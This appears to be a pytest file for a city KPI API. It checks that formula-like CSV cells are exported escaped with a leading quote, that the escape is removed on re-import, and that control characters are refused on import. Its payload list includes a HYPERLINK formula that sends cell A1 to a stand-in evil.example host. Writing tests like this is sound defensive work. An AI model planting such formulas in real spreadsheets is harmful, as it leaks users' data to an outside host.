"""CSV formula injection (issue 12): text a spreadsheet would run as a formula is exported escaped with a
leading quote (OWASP), and the import takes the escape off again, so an export re-imported changes nothing."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from app.identity.models import Role
from tests.api.writes_city.conftest import Env

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
]


def _import(env: Env, text: str) -> int:
    response = env.http.post(
        f"/api/v1/cities/{env.city_a}/kpi-values/import",
        content=text.encode(),
        headers={**env.auth(Role.city_official), "content-type": "text/csv"},
    )
    assert response.status_code == 200, response.text
    created: int = response.json()["created"] + response.json()["updated"]
    return created


def _export(http: TestClient, city: int) -> list[dict[str, str]]:
    text = http.get(f"/api/v1/cities/{city}/kpi-values/export", params={"format": "csv"}).text
    return list(csv.DictReader(io.StringIO(text)))


def test_formulas_are_escaped_in_the_export_and_round_trip(env: Env) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["kpi", "data_point", "year", "value", "data_quality", "source", "note"])
    for i, formula in enumerate(FORMULAS):
        writer.writerow(["SC-EH-H-1C", "", 2010 + i, -1 if i == 2 else 50, "measured", formula, formula])
    assert _import(env, buffer.getvalue()) == len(FORMULAS)
    stored = {
        r["year"]: (r["source"], r["note"])
        for r in env.rows(
            "SELECT year, source, note FROM kpi_observation WHERE city_id = :city AND year < 2016", city=env.city_a
        )
    }
    # Text, stored as sent; a quote before a formula is a spreadsheet's "this is text" and comes off.
    expected = [*FORMULAS[:-1], "=already quoted"]
    assert stored == {2010 + i: (f, f) for i, f in enumerate(expected)}

    exported = [r for r in _export(env.http, env.city_a) if r["kpi"] == "SC-EH-H-1C" and int(r["year"]) < 2016]
    assert len(exported) == len(FORMULAS)
    for cells in exported:
        for column in ("source", "note"):
            assert cells[column].startswith("'"), cells  # a spreadsheet shows it as text, never runs it
            assert not cells[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert {int(r["year"]): r["value"] for r in exported}[2012] == "-1"  # numbers are not text: left alone

    text = env.http.get(f"/api/v1/cities/{env.city_a}/kpi-values/export", params={"format": "csv"}).text
    again = env.http.post(
        f"/api/v1/cities/{env.city_a}/kpi-values/import",
        content=text.encode(),
        headers={**env.auth(Role.city_official), "content-type": "text/csv"},
    )
    assert again.status_code == 200, again.text
    assert again.json()["created"] == again.json()["updated"] == 0  # the escape came off again


def test_control_characters_in_a_csv_are_refused_by_line_and_field(env: Env) -> None:
    text = "kpi,data_point,year,value,data_quality,source,note\r\n" + (
        "SC-EH-H-1C,,2010,50,measured,SSB\x00,fine\r\nSC-EH-H-1C,,2011,50,measured,SSB,\u202eevil\r\n"
    )
    response = env.http.post(
        f"/api/v1/cities/{env.city_a}/kpi-values/import",
        content=text.encode(),
        headers={**env.auth(Role.city_official), "content-type": "text/csv"},
    )
    assert response.status_code == 422, response.text
    errors = [(e["line"], e["field"]) for e in response.json()["errors"]]
    assert errors == [(2, "source"), (3, "note")]
